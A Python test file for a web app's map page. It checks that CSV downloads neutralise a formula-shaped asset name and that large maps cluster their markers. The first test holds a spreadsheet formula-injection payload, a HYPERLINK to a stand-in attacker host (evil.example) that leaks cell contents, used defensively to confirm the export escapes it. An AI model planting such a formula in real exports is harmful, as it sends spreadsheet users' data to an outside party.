"""The map page: CSV downloads write a formula-shaped asset name as text; large maps group
their assets."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from placehub.db import Database
from placehub.sta.tables import things
from placehub.web import maps
from tests.web.seed import Seeded

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def test_csv_downloads_escape_formula_names(officer_client: TestClient, seeded: Seeded,
                                           database: Database) -> None:
    """/map.csv and /public/map.csv write a Thing named =HYPERLINK(...) with an apostrophe."""
    with database.begin() as conn:
        conn.execute(update(things).values(name=FORMULA))
    for path in ("/map.csv", "/public/map.csv"):
        response = officer_client.get(path)
        assert response.status_code == 200, path
        names = [row["name"] for row in csv.DictReader(io.StringIO(response.text))]
        assert names and all(name == "'" + FORMULA for name in names), (path, names[:2])


def test_large_maps_draw_assets_in_groups(officer_client: TestClient, seeded: Seeded,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """A map with fewer assets than ``CLUSTER_FROM`` draws every marker; from that many it
    draws groups and the legend explains the numbered circles."""
    page = officer_client.get("/map").text
    assert 'data-cluster="false"' in page and "A group of assets" not in page
    monkeypatch.setattr(maps, "CLUSTER_FROM", 10)
    page = officer_client.get("/map").text
    assert 'data-cluster="true"' in page and "A group of assets" in page
    assert 'data-cluster="false"' in officer_client.get("/map?type=flowerbed").text
